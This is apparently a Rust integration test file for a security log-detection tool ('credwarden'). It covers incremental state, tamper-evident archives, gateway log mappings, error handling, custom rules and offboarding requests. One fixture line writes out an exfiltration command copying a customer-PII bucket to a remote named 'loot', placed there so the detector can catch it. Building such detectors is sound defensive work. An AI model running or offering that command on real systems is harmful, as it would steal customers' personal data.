//! `credwarden detect` through the real binary: state between runs (nothing read or reported twice),
//! the evidence archive and its verification (tampering found), incidents, the file sink, forced
//! formats, and `[[log]]` mappings from the config file.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const LOGS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/logs");

#[path = "support/files.rs"]
mod files;

fn credwarden(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_credwarden"))
        .args(args)
        .env_remove("RUST_LOG")
        .env_remove("CREDWARDEN_CONFIG")
        .output()
        .unwrap()
}

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn p(d: &Path, name: &str) -> String {
    d.join(name).display().to_string()
}

fn copy_logs(to: &Path) -> PathBuf {
    let dir = to.join("logs");
    std::fs::create_dir_all(&dir).unwrap();
    for e in std::fs::read_dir(LOGS).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), dir.join(e.file_name())).unwrap();
    }
    dir
}

#[test]
fn a_second_run_with_the_state_reads_and_reports_nothing_new() {
    let d = tempfile::tempdir().unwrap();
    let logs = copy_logs(d.path());
    let logs = logs.display().to_string();
    let state = p(d.path(), "state.json");
    let args = ["detect", "--format", "json", "--state", &state, &logs];
    let first = ok(&credwarden(&args));
    let n = first.lines().count();
    assert!(n >= 2, "{first}");
    assert!(Path::new(&state).exists());
    // The lock is released (an operating-system lock: the next run below takes it).
    let second = ok(&credwarden(&args));
    assert_eq!(second, "", "nothing new to report");
    // New lines appended to a log are read on the next run, and only they.
    let shell = d.path().join("logs/shell.jsonl");
    let mut text = std::fs::read_to_string(&shell).unwrap();
    text.push_str("{\"time\":\"2025-07-03T01:00:00Z\",\"user\":\"mallory\",\"host\":\"bastion-1\",\"command\":\"rclone sync s3:shop-customer-pii remote:loot\"}\n");
    std::fs::write(&shell, text).unwrap();
    let third = ok(&credwarden(&args));
    assert_eq!(third.lines().count(), 1, "{third}");
    assert!(third.contains("rclone"), "{third}");
}

#[test]
fn archive_keeps_every_event_and_verify_finds_tampering() {
    let d = tempfile::tempdir().unwrap();
    let arch = p(d.path(), "archive");
    let incidents = p(d.path(), "incidents.jsonl");
    let sink = p(d.path(), "sink.jsonl");
    let out = credwarden(&[
        "detect",
        "--format",
        "json",
        "--archive",
        &arch,
        "--incidents",
        &incidents,
        "--sink",
        &format!("file:{sink}"),
        LOGS,
    ]);
    let findings = ok(&out);
    // The sink got the same findings as stdout; every finding names its incident.
    assert_eq!(
        std::fs::read_to_string(&sink).unwrap().lines().count(),
        findings.lines().count()
    );
    let inc = std::fs::read_to_string(&incidents).unwrap();
    let first: serde_json::Value = serde_json::from_str(inc.lines().next().unwrap()).unwrap();
    assert!(first["risk_score"].as_f64().unwrap() > 0.0);
    for line in findings.lines() {
        let f: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(f["unmapped"]["facts"]["incident"].is_string(), "{line}");
    }
    let v = credwarden(&["archive", "verify", &arch]);
    assert!(ok(&v).contains(": ok: "));
    // Remove one part: verification fails with exit 1 and names it.
    let part = files::walk(Path::new(&arch))
        .into_iter()
        .find(|f| f.to_string_lossy().ends_with(".parquet"))
        .unwrap();
    std::fs::remove_file(&part).unwrap();
    let v = credwarden(&["archive", "verify", &arch]);
    assert_eq!(v.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&v.stdout).contains("missing file"));
}

#[test]
fn a_mapped_gateway_log_feeds_the_token_check() {
    let d = tempfile::tempdir().unwrap();
    // A gateway that logs in its own shape: the token id sits in a header field.
    std::fs::create_dir_all(d.path().join("kong")).unwrap();
    std::fs::write(
        d.path().join("kong/access.log"),
        "{\"started_at\":1751418000000,\"client_ip\":\"45.133.0.9\",\"request\":{\"uri\":\"/api/v1/members/9/address-book\",\"headers\":{\"x-token-id\":\"never-issued\",\"x-kid\":\"login-rs256-2019\"}},\"response\":{\"status\":200},\"consumer\":\"9\"}\n",
    )
    .unwrap();
    std::fs::write(
        d.path().join("issuance.jsonl"),
        "{\"time\":\"2025-07-01T00:00:00Z\",\"event\":\"token_issued\",\"sub\":\"1\",\"jti\":\"issued-1\",\"kid\":\"login-rs256-2019\",\"iat\":1751328000,\"client_id\":\"web\"}\n",
    )
    .unwrap();
    let cfg = p(d.path(), "credwarden.toml");
    std::fs::write(
        &cfg,
        "[[log]]\nname = \"kong\"\nkind = \"gateway\"\npath_contains = \"kong/\"\n[log.fields]\ntime = \"started_at\"\nip = \"client_ip\"\naction = \"request.uri\"\nresource = \"request.uri\"\nstatus = \"response.status\"\nprincipal = \"consumer\"\n\"claims.sub\" = \"consumer\"\n\"claims.jti\" = \"request.headers.x-token-id\"\n\"claims.kid\" = \"request.headers.x-kid\"\n\"claims.iat\" = \"\"\n",
    )
    .unwrap();
    let out = credwarden(&[
        "detect",
        "--format",
        "json",
        "--config",
        &cfg,
        &p(d.path(), "kong"),
        &p(d.path(), "issuance.jsonl"),
    ]);
    let text = ok(&out);
    assert!(
        text.contains("CW-D007") && text.contains("never-issued"),
        "{text}"
    );
    // Without the mapping the file is not understood: named, not silently dropped, and a run that
    // read nothing is an error (exit 2), not "no findings".
    let out = credwarden(&["detect", "--format", "json", "-v", &p(d.path(), "kong")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("access.log") && err.contains("[[log]]"),
        "{err}"
    );
}

#[test]
fn a_forced_format_and_a_bad_duration_are_checked() {
    let out = credwarden(&[
        "detect",
        "--source-format",
        "cloudtrail",
        "--format",
        "json",
        &format!("{LOGS}/gateway.jsonl"),
    ]);
    // Gateway lines read as CloudTrail: every record is a located error, and a run that read
    // nothing usable says so (exit 2).
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    // Grouped by file and cause: one line for the file's records, naming the field.
    assert!(
        err.contains("gateway.jsonl: 2 lines (1, 2): field `eventTime`: missing"),
        "{err}"
    );
    let out = credwarden(&["detect", "--reorder-window", "soon", LOGS]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a duration"));
    let out = credwarden(&["detect", "--sink", "slack:ftp://x", LOGS]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn custom_rules_as_data_run_beside_the_builtin_ones() {
    let d = tempfile::tempdir().unwrap();
    let rules = p(d.path(), "mine.toml");
    std::fs::write(
        &rules,
        "[[rule]]\nid = \"ACME-1\"\nname = \"list-buckets\"\ntitle = \"Buckets listed\"\ndescription = \"d\"\nseverity = \"low\"\nattack = [{ technique = \"T1619\", name = \"Cloud Storage Object Discovery\", tactic = \"TA0007\", tactic_name = \"Discovery\" }]\nd3fend = [{ id = \"D3-PM\", name = \"Platform Monitoring\" }]\nfalse_positives = [\"inventory\"]\nrecommendation = \"r\"\nactions = [\"StopLogging\"]\n",
    )
    .unwrap();
    let out = credwarden(&["detect", "--format", "json", "--rules", &rules, LOGS]);
    assert!(ok(&out).contains("ACME-1"));
    std::fs::write(&rules, "[[rule]]\nid = \"CW-D001\"\n").unwrap();
    let out = credwarden(&["detect", "--rules", &rules, LOGS]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("mine.toml"));
}

#[test]
fn a_severe_finding_asks_for_the_offboarding_of_its_identity() {
    let d = tempfile::tempdir().unwrap();
    let j = p(d.path(), "journal.jsonl");
    let hr = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/roster-hris.csv");
    let out = credwarden(&[
        "detect",
        "--format",
        "json",
        "--hr",
        hr,
        "--request-offboarding",
        "critical",
        "--offboard-journal",
        &j,
        LOGS,
    ]);
    let findings = ok(&out);
    let ids: std::collections::BTreeSet<String> = findings
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|f| f["severity_id"] == 5)
        .filter_map(|f| f["resources"][0]["owner"]["uid"].as_str().map(String::from))
        .collect();
    let journal = std::fs::read_to_string(&j).unwrap_or_default();
    assert!(
        !ids.is_empty(),
        "the test data has a critical finding about an identity: {findings}"
    );
    for id in &ids {
        assert!(
            journal.contains(&format!("\"identity\":\"{id}\""))
                && journal.contains("requested by detect"),
            "{journal}"
        );
    }
    // A second run does not ask twice.
    let before = journal.lines().count();
    ok(&credwarden(&[
        "detect",
        "--format",
        "json",
        "--hr",
        hr,
        "--request-offboarding",
        "critical",
        "--offboard-journal",
        &j,
        LOGS,
    ]));
    assert_eq!(std::fs::read_to_string(&j).unwrap().lines().count(), before);
}
